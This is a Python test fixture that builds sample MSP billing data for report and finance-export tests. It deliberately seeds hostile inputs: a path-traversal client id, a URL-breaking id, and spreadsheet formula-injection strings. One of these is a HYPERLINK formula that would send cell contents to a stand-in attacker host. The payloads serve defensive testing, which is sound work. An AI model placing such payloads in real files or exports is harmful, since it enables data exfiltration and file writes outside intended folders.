"""A small MSP for the report tests: billable work in every review state, and hostile inputs (ids
that cannot be file names, formula text for the finance export, a file rejected whole that holds
another client's ticket). Run once per session without publishing; tests publish it."""

import json
import shutil
from pathlib import Path

import duckdb

from demo.generate import CLIENT_COLUMNS, DECISION_COLUMNS, ENTRY_COLUMNS, TICKET_COLUMNS
from reports import publish
from tests.builders import client, routine, ticket, write_csv
from tests.publish_demo import msp_paths

JAN = "2026-01-01"
# Ids that cannot be file names or URL paths as they are (adversarial review, cases 1, 2, 4).
ESCAPING_ID = "../../outside/pwned"
URL_ID = "ACME#2?x=1%2F"
LONG_ID = "L" * 150
# A second client called like ACME (case 12): the dashboard must keep them apart.
SHARED_NAME = "Acme Trading"
FORMULA_SUBJECT = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
FORMULA_NAME = "=1+2"
OUTLOOK_SUBJECT = "Install new switch on site\x0bsecond line from Outlook"
SECRET = "ceo@only-in-the-rejected-file.example"


def _entry(entry_id: str, ticket_id: str, minutes: int, work_type: str = "onsite") -> dict:
    return {"entry_id": entry_id, "ticket_id": ticket_id, "started_at": "2026-01-14T10:00:00+00:00",
            "minutes": minutes, "work_type": work_type, "billable": "true", "note": ""}


def _onsite(ticket_id: str, client_id: str, subject: str, day: int = 12) -> dict:
    return ticket(ticket_id, client_id, f"2026-01-{day:02d}T10:00:00+00:00", subject=subject,
                  description="Please send an engineer to our office to do this on site.")


def build(landing: Path) -> None:
    """Landing files of January 2026 for six clients."""
    write_csv(landing / "clients" / "clients.csv", CLIENT_COLUMNS, [
        client("ACME", 10, "2025-06-01", name=SHARED_NAME, hourly_rate="150"),
        client(URL_ID, 10, "2025-06-01", name=SHARED_NAME),
        client(ESCAPING_ID, 10, "2025-06-01", name="Escaping Ltd"),
        client(LONG_ID, 10, "2025-06-01", name="Long Id Ltd"),
        client("BETA", 10, "2025-06-01", name=FORMULA_NAME),
        # Over fair use: 5 routine tickets on 2 seats against a limit of 1.0 per seat.
        client("OVER", 2, "2025-06-01", name="Overbrook Ltd"),
    ])
    tickets = [
        _onsite("A-APP", "ACME", "Engineer on site to replace the broken switch"),
        _onsite("A-PEND", "ACME", FORMULA_SUBJECT, day=13),
        _onsite("A-REJ", "ACME", "Engineer on site for the printer", day=14),
        _onsite("A-VT", "ACME", OUTLOOK_SUBJECT, day=15),
        ticket("A-R1", "ACME", "2026-01-16T10:00:00+00:00"),
        ticket("U-1", URL_ID, "2026-01-12T11:00:00+00:00"),
        ticket("E-1", ESCAPING_ID, "2026-01-12T11:00:00+00:00"),
        ticket("L-1", LONG_ID, "2026-01-12T11:00:00+00:00"),
        _onsite("B-1", "BETA", "-2+3 engineer on site", day=12),
        _onsite("B-2", "BETA", "@SUM(1+1) engineer on site", day=13),
        ticket("B-R1", "BETA", "2026-01-16T10:00:00+00:00"),
        # Two scope exclusions on one ticket: one finance line, one review-queue row.
        ticket("B-MIG", "BETA", "2026-01-19T10:00:00+00:00",
               subject="Migrate all our mailboxes to Microsoft 365",
               description="Move the whole company's email from the on-premises Exchange server;"
               " please send an engineer to our office for the cut-over."),
    ]
    tickets += routine("O-", "OVER", "2026-01-20", 5)
    write_csv(landing / "tickets" / "tickets_2026-01.csv", TICKET_COLUMNS, tickets)
    write_csv(landing / "time_entries" / "time_entries_2026-01.csv", ENTRY_COLUMNS, [
        _entry("W1", "A-APP", 125), _entry("W2", "A-PEND", 245), _entry("W3", "A-REJ", 60),
        _entry("W4", "A-VT", 45), _entry("W5", "B-1", 90), _entry("W6", "B-2", 30),
        _entry("W7", "B-MIG", 120),
    ])
    write_csv(landing / "review_decisions" / "review_decisions.csv", DECISION_COLUMNS, [
        {"ticket_id": "A-APP", "decision": "scope:onsite=approved", "reviewer": "finance.jane",
         "decided_at": "2026-02-02T10:00:00+00:00", "note": "agreed with the client"},
        {"ticket_id": "A-REJ", "decision": "scope:onsite=rejected", "reviewer": "am.omar",
         "decided_at": "2026-02-02T10:05:00+00:00", "note": "goodwill"},
    ])
    # A file rejected whole (one JSON array instead of JSON Lines) holding BETA's ticket: its
    # reason quotes the line, which must reach no client page and not the dashboard (case 13).
    array = [{"ticket_id": "ARR-1", "client_id": "BETA", "requester": SECRET,
              "created_at": "2026-01-20T10:00:00+00:00", "subject": "Payroll server password"}]
    (landing / "tickets" / "tickets_api.jsonl").write_text(json.dumps(array) + "\n")


_BUILT: dict[str, dict] = {}


def built(tmp_path_factory) -> dict:
    """Build and run the MSP once per session (ingest and marts, no publishing), shared by the
    xdist workers (`shared_build`); return the paths of this process's copy. Tests publish into
    folders of their own."""
    from tests.conftest import shared_build

    if "msp" not in _BUILT:
        def run(root: Path) -> None:
            with msp_paths(root) as env:
                build(env["landing"])
                run_all_without_reports()

        root = shared_build(tmp_path_factory, "report-msp", JAN, run)
        with msp_paths(root) as env:
            _BUILT["msp"] = dict(env, root=root)
    return _BUILT["msp"]


def copy_built(tmp_path_factory, root: Path) -> None:
    """Copy the built MSP's landing folder and warehouse (with its WAL, which holds what another
    open connection kept from being checkpointed) into `root`, to change and re-run."""
    source = built(tmp_path_factory)
    shutil.copytree(source["landing"], root / "landing")
    for file in source["warehouse"].parent.glob(source["warehouse"].name + "*"):
        shutil.copy2(file, root / file.name.replace(source["warehouse"].name, "warehouse.duckdb"))


def run_all_without_reports() -> None:
    import importlib

    import dagster as dg

    import pipelines.definitions
    from pipelines.run import run_all

    importlib.reload(pipelines.definitions)
    run_all([JAN], instance=dg.DagsterInstance.ephemeral(), reports=False, docs=False)


def publish_to(env: dict, root: Path, month: str = JAN, **kw) -> publish.Published:
    """Publish the month into `root` (no PDFs unless asked)."""
    kw.setdefault("pdf", False)
    with duckdb.connect(str(env["warehouse"]), read_only=True) as con:
        return publish.publish_month(con, month, root, "test", "USD", **kw)

